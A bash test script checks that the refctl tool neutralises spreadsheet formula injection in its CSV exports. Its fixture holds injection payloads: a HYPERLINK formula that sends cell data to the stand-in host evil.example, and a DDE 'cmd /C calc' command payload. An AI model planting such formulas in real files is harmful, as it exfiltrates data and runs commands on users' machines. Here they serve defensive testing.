#!/bin/bash
# CSV formula injection: a cell a spreadsheet would run as a formula (it
# starts with =, +, -, @, tab or CR and is not a plain number) gets a '
# in front in every CSV refctl writes; --raw-csv or REFCTL_RAW_CSV=1 give
# the bytes as stored.
. "$(dirname "$0")/lib.sh"

new_repo prog
cat >advocates/eve.yaml <<'YAML'
id: eve
name: '=HYPERLINK("http://evil.example/?"&A1,"click")'
company: "+cmd|' /C calc'!A0"
status: active
industry: "-2+3"
region: "@SUM(A1:A9)"
phone: "+49 30 1234"
title: "-5"
activities: [quote]
requests:
- id: eve/1
  opened: 2026-10-05
  status: requested
  activity: quote
  requester: "=cmd|' /C calc'!A0"
  prospect: "\tTab Co"
YAML
git add advocates/eve.yaml && git commit -qm "add eve"
fields=id,name,company,industry,region,phone,title

test_case "list --format csv neutralises formula cells, keeps plain numbers"
run refctl list --format csv --fields "$fields"
check_rc 0
check_eq "csv" "id,name,company,industry,region,phone,title
eve,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,'-2+3,'@SUM(A1:A9),'+49 30 1234,-5" \
	"$(printf '%s' "$out" | tr -d '\r')"

test_case "request list --format csv"
run refctl request list --format csv
check_rc 0
check_eq "csv" "id,opened,status,activity,prospect,requester,scheduled,closed,outcome,deal_value
eve/1,2026-10-05,requested,quote,'	Tab Co,'=cmd|' /C calc'!A0,,,," "$(printf '%s' "$out" | tr -d '\r')"

test_case "report --format csv"
sed -i 's/^program: .*/program: "=1+1"/' refctl.yaml
git commit -qam "a formula for a name"
run refctl report --month 2026-10 --format csv
check_rc 0
out=$(printf '%s' "$out" | tr -d '\r')
check_contains "program" "report,program,,'=1+1" "$out"
check_contains "requester key" "requests,by_requester,'=cmd|' /C calc'!A0,1" "$out"
check_contains "industry key" "requests,by_industry,'-2+3,1" "$out"
check_contains "region key" "requests,by_region,'@sum(a1:a9),1" "$out"
check_contains "numbers stay numbers" "requests,opened,,1" "$out"
run refctl report --month 2026-10 -o "$TEST_ROOT/report.csv"
check_rc 0
check_contains "the file too" "report,program,,'=1+1" "$(cat "$TEST_ROOT/report.csv")"

test_case "--raw-csv and REFCTL_RAW_CSV=1: the bytes as stored"
run refctl --raw-csv list --format csv --fields "$fields"
check_rc 0
check_eq "list" "id,name,company,industry,region,phone,title
eve,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",+cmd|' /C calc'!A0,-2+3,@SUM(A1:A9),+49 30 1234,-5" \
	"$(printf '%s' "$out" | tr -d '\r')"
REFCTL_RAW_CSV=1 run refctl request list --format csv
check_rc 0
check_contains "request list" "eve/1,2026-10-05,requested,quote,	Tab Co,=cmd|' /C calc'!A0,,,," "$out"
run refctl -C . --raw-csv report --month 2026-10 --format csv
check_rc 0
check_contains "report" "report,program,,=1+1" "$out"
REFCTL_RAW_CSV=0 run refctl list --format csv --fields id,name
check_contains "REFCTL_RAW_CSV=0 is off" "eve,\"'=HYPERLINK(" "$out"

test_case "TSV, JSON and tables are not touched"
run refctl list --format tsv --fields id,company
check_eq "tsv" "id	company
eve	+cmd|' /C calc'!A0" "$out"
run refctl list --format json --fields id,company
check_contains "json" "\"company\": \"+cmd|' /C calc'!A0\"" "$out"
run refctl list --fields id,company
check_eq "table" "id   company
eve  +cmd|' /C calc'!A0" "$out"

finish
